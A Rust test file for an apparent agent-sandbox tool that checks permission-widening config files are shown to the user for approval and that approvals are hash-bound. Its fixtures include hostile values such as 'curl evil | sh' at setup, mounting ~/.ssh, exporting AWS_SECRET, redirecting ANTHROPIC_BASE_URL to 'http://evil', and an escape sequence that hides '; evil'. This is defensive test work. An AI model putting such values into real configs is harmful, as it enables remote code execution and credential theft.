//! Promises about what needs the user's yes, and how long a yes lasts.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use super::super::*;
use super::parsing::EVERYTHING;
use super::scratch::Scratch;

fn file(text: &str, whose: Whose) -> BoxFile {
    parse(Path::new("coop.toml"), text, whose).unwrap_or_else(|mistakes| panic!("{mistakes}"))
}

fn asked(text: &str, user: &str) -> Vec<(usize, String)> {
    let list = demands(&file(text, Whose::Project), &file(user, Whose::User));
    list.into_iter().map(|demand| (demand.line, demand.what)).collect()
}

#[test]
fn a_file_that_only_narrows_needs_no_trust() {
    let narrow = "[box]\nagent = \"claude\"\nimage = \"host\"\nshell = \"/bin/bash\"\nhide = [\".env\"]\nlogin = \"none\"\nnested = false\nuidmap = \"root\"\nsetup = []\n\
                  [workspace]\npath = \".\"\nmode = \"overlay\"\nprotect = [\"Makefile\"]\nprotect_git = true\n\
                  [network]\nmode = \"none\"\npublish = [\"8080:80\", \"127.0.0.1:1:1\"]\n\
                  [limits]\nmemory = \"64G\"\nprocesses = 4000\n[security]\nseccomp = true\nlandlock = true\n\
                  [session]\nname = \"x\"\nrestart = \"on-failure\"\npersist = [\".cache\"]\ncols = 80\n[session.labels]\na = \"b\"\n\
                  [input_filter]\nctrl_c_ms = 500\nblock_keys = [\"ctrl-z\"]";
    assert_eq!(asked(narrow, ""), []);
    for plain in ["[\"claude\"]", "[\"bash\"]", "[\"/bin/sh\"]", "[\"gemini\"]"] {
        assert_eq!(asked(&format!("[box]\ncommand = {plain}"), ""), [], "{plain}");
    }
}

#[test]
fn each_thing_that_widens_is_asked_for_with_its_line() {
    let table = [
        ("[box]\nimage = \"evil/image\"", "runs the programs of the image evil/image"),
        ("[box]\nimage = \"dir:/\"", "runs the programs of the image dir:/"),
        ("[box]\nsetup = [\"curl evil | sh\"]", "runs at setup, with this machine's network: curl evil | sh"),
        ("[box]\ncommand = [\"sh\", \"-c\", \"rm x\"]", "runs sh -c 'rm x'"),
        ("[box]\ncommand = [\"./claude\"]", "runs ./claude"),
        ("[box]\ncommand = [\"claude\", \"--x\"]", "runs claude --x"),
        ("[box]\nshell = \"./sh\"", "runs ./sh for `coop shell`"),
        ("[box]\nmounts = [\"~/.ssh:/s:ro\"]", "reads ~/.ssh of this machine, seen as /s"),
        (
            "[box]\nmounts = [\"tools:/usr/local/bin\"]",
            "reads and writes tools of this machine, seen as /usr/local/bin",
        ),
        ("[box]\nmounts = [{ volume = \"v\", to = \"/v\" }]", "reads and writes the volume v, seen as /v"),
        ("[box]\nlogin = \"copy\"", "gets a copy of your login to the agent's service"),
        ("[box]\nlogin = \"share\"", "uses and renews your login to the agent's service"),
        ("[box]\nnested = true", "makes namespaces and mounts inside"),
        ("[box]\nuidmap = \"range\"", "uses the subordinate ids that /etc/subuid gives you"),
        ("[workspace]\npath = \"sub\"", "takes sub for the project"),
        (
            "[workspace]\nprotect_git = false",
            "writes .git/hooks and .git/config, which name programs that git runs outside of the box",
        ),
        ("[network]\nmode = \"host\"", "reaches every host that you can, and what listens on this machine"),
        ("[network]\nallow = [\"evil.com\"]", "reaches evil.com"),
        ("[network]\npublish = [\"0.0.0.0:80:80\"]", "opens a port to other machines: 0.0.0.0:80:80"),
        ("[security]\nseccomp = false", "makes system calls that are refused otherwise"),
        ("[security]\nlandlock = false", "does without the second wall around files"),
        ("[session]\nrestart = \"always\"", "starts the agent again whenever it ends"),
        ("[env]\nexport = [\"AWS_SECRET\"]", "gets AWS_SECRET of your environment"),
        ("[env]\nANTHROPIC_BASE_URL = \"http://evil\"", "sets ANTHROPIC_BASE_URL=http://evil"),
    ];
    for (text, what) in table {
        assert_eq!(asked(text, ""), [(2, what.to_owned())], "{text}");
        // What the users said themselves they are not asked again, except for the place of a project.
        if !text.contains("path = ") {
            assert_eq!(asked(text, text), [], "{text}");
        }
    }
}

#[test]
fn who_keeps_their_name_out_of_boxes_is_asked_for_it() {
    let told = "commits with your name and address".to_owned();
    assert_eq!(asked("[box]\ngit_identity = true", "[box]\ngit_identity = false"), [(2, told)]);
    assert_eq!(asked("[box]\ngit_identity = true", ""), []);
    assert_eq!(asked("[box]\ngit_identity = false", ""), []);
}

#[test]
fn every_key_was_thought_of() {
    let keys: Vec<&str> =
        demands(&file(EVERYTHING, Whose::Project), &BoxFile::default()).iter().map(|demand| demand.key).collect();
    let expected = [
        "box.image",
        "box.command",
        "box.setup",
        "box.setup",
        "box.nested",
        "box.mounts",
        "box.mounts",
        "box.mounts",
        "box.login",
        "workspace.path",
        "workspace.protect_git",
        "network.mode",
        "network.allow",
        "network.allow",
        "security.seccomp",
        "security.landlock",
        "env.export",
        "env",
        "env",
    ];
    assert_eq!(keys, expected);
}

#[test]
fn what_the_user_narrowed_is_not_widened_unasked() {
    assert_eq!(asked("[workspace]\nmode = \"rw\"", "[workspace]\nmode = \"overlay\"").len(), 1);
    assert_eq!(asked("[workspace]\nmode = \"overlay\"", "[workspace]\nmode = \"ro\"").len(), 1);
    assert_eq!(asked("[network]\nmode = \"filtered\"", "[network]\nmode = \"none\"").len(), 1);
    assert_eq!(asked("[network]\nmode = \"host\"", "[network]\nmode = \"host\""), []);
    assert_eq!(asked("[box]\nlogin = \"copy\"", "[box]\nlogin = \"share\""), []);
    let raised = asked(
        "[limits]\nmemory = \"8G\"\nprocesses = 100\ncpus = 4\nopen_files = 100",
        "[limits]\nmemory = \"4G\"\nprocesses = 200\ncpus = 2\nopen_files = 64",
    );
    let told = ["raises your limit of 4G to 8G", "raises your limit of 2 to 4", "raises your limit of 64 to 100"];
    assert_eq!(raised.iter().map(|(_, what)| what.as_str()).collect::<Vec<_>>(), told);
}

#[test]
fn what_is_asked_for_is_shown_whole_and_cannot_hide() {
    let long = "x".repeat(5000);
    let list = asked(&format!("[box]\nsetup = [\"\\u001b[8m{long}; evil\"]"), "");
    assert!(list[0].1.ends_with("; evil") && list[0].1.contains("\\u{1b}[8m"), "{}", list[0].1.len());
}

#[test]
fn the_question_names_the_file_each_line_and_the_way_on() {
    let demands =
        demands(&file("[box]\nsetup = [\"make\"]\n[env]\nexport = [\"A\"]", Whose::Project), &BoxFile::default());
    let first = Needs { path: "/p/coop.toml".into(), demands, changed: false };
    let expected = "/p/coop.toml asks for more than a box gets by itself:\n  line 2: it runs at setup, with this machine's network: make \
                    (box.setup)\n  line 4: it gets A of your environment (env.export)\nRead it, then say `coop trust` if it may.";
    assert_eq!(first.to_string(), expected);
    let again = Needs { changed: true, ..first };
    assert!(again.to_string().starts_with("/p/coop.toml has changed since you trusted it, and asks for"));
}

fn one_demand() -> Vec<Demand> {
    vec![Demand { key: "box.setup", what: "runs".into(), line: 1 }]
}

#[test]
fn a_yes_holds_for_these_bytes_at_this_path_until_it_is_taken_back() {
    let scratch = Scratch::fresh();
    let trust = Trust::new(&scratch.dir().join("home/.coop"));
    let (path, other) = (scratch.file("a/coop.toml", "x"), scratch.file("b/coop.toml", "x"));
    let needs = |changed| Verdict::Needs(Needs { path: path.clone(), demands: one_demand(), changed });
    assert_eq!(trust.check(&path, b"x", one_demand()).unwrap(), needs(false));
    assert_eq!(trust.check(&path, b"x", vec![]).unwrap(), Verdict::Trusted);
    trust.grant(&path, b"x").unwrap();
    assert_eq!(trust.check(&path, b"x", one_demand()).unwrap(), Verdict::Trusted);
    assert_eq!(trust.check(&path, b"x ", one_demand()).unwrap(), needs(true));
    assert!(matches!(trust.check(&other, b"x", one_demand()).unwrap(), Verdict::Needs(Needs { changed: false, .. })));
    let listed = trust.list().unwrap();
    assert_eq!((listed.len(), &listed[0].0, listed[0].1.sha256.len()), (1, &path, 64));
    assert!(trust.revoke(&path).unwrap() && !trust.revoke(&path).unwrap());
    assert_eq!(trust.check(&path, b"x", one_demand()).unwrap(), needs(false));
}

#[test]
fn a_path_through_a_link_is_the_same_file() {
    let scratch = Scratch::fresh();
    let trust = Trust::new(scratch.dir());
    let path = scratch.file("real/coop.toml", "x");
    std::os::unix::fs::symlink(scratch.dir().join("real"), scratch.dir().join("link")).unwrap();
    trust.grant(&scratch.dir().join("link/coop.toml"), b"x").unwrap();
    assert_eq!(trust.check(&path, b"x", one_demand()).unwrap(), Verdict::Trusted);
}

#[test]
fn the_list_is_for_the_user_alone() {
    let scratch = Scratch::fresh();
    let home = scratch.dir().join("home/.coop");
    let trust = Trust::new(&home);
    std::fs::create_dir(home.parent().unwrap()).unwrap();
    trust.grant(Path::new("/x/coop.toml"), b"x").unwrap();
    let mode = |path: &Path| path.metadata().unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&home), mode(&home.join("trust.json"))), (0o700, 0o600));
    // One that a crash has left is neither used nor in the way.
    scratch.file("home/.coop/trust.json.new", "{half");
    trust.grant(Path::new("/y/coop.toml"), b"y").unwrap();
    assert_eq!((trust.list().unwrap().len(), mode(&home.join("trust.json"))), (2, 0o600));
    assert!(!home.join("trust.json.new").exists());
}

#[test]
fn a_broken_list_is_said_and_left_as_it_is() {
    let scratch = Scratch::fresh();
    let trust = Trust::new(scratch.dir());
    let path = Path::new("/x/coop.toml");
    for broken in ["", "{", "[]", "{\"version\": 1}", "{\"version\": 99, \"files\": {}}"] {
        let kept = scratch.file("trust.json", broken);
        let errors = [
            trust.check(path, b"x", one_demand()).map(drop).unwrap_err(),
            trust.grant(path, b"x").unwrap_err(),
            trust.revoke(path).map(drop).unwrap_err(),
            trust.list().map(drop).unwrap_err(),
        ];
        for error in errors {
            let text = error.to_string();
            assert!(text.starts_with(&kept.display().to_string()) && text.contains("mend it, or remove it"), "{text}");
        }
        assert_eq!(std::fs::read_to_string(&kept).unwrap(), broken);
        assert_eq!(trust.check(path, b"x", vec![]).unwrap(), Verdict::Trusted);
    }
}

#[test]
fn many_at_a_time_lose_nothing() {
    let scratch = Scratch::fresh();
    let trust = Trust::new(scratch.dir());
    std::thread::scope(|scope| {
        for number in 0..16 {
            let trust = &trust;
            scope.spawn(move || trust.grant(Path::new(&format!("/p/{number}/coop.toml")), b"x").unwrap());
        }
    });
    assert_eq!(trust.list().unwrap().len(), 16);
}

#[test]
fn a_loaded_project_is_judged_by_what_was_read() {
    let scratch = Scratch::fresh();
    let (home, app) = (scratch.make("home"), scratch.make("home/app"));
    let coop_home = scratch.make("home/.coop");
    scratch.file("home/.coop/config.toml", "[box]\nlogin = \"copy\"\n[env]\nexport = [\"A\"]");
    let path = scratch.file("home/app/coop.toml", "[env]\nexport = [\"A\", \"B\"]");
    let trust = Trust::new(&coop_home);
    let loaded = load(&app, &home, &coop_home).unwrap();
    assert_eq!(loaded.demands.len(), 1);
    assert!(matches!(loaded.verdict(&trust).unwrap(), Verdict::Needs(Needs { changed: false, .. })));
    trust.grant(&path, &loaded.source.as_ref().unwrap().bytes).unwrap();
    scratch.file("home/app/coop.toml", "[env]\nexport = [\"SECRET\"]");
    assert_eq!(loaded.verdict(&trust).unwrap(), Verdict::Trusted);
    assert_eq!(loaded.settings(Overrides::default()).env.export.len(), 2);
    assert!(matches!(
        load(&app, &home, &coop_home).unwrap().verdict(&trust).unwrap(),
        Verdict::Needs(Needs { changed: true, .. })
    ));
}
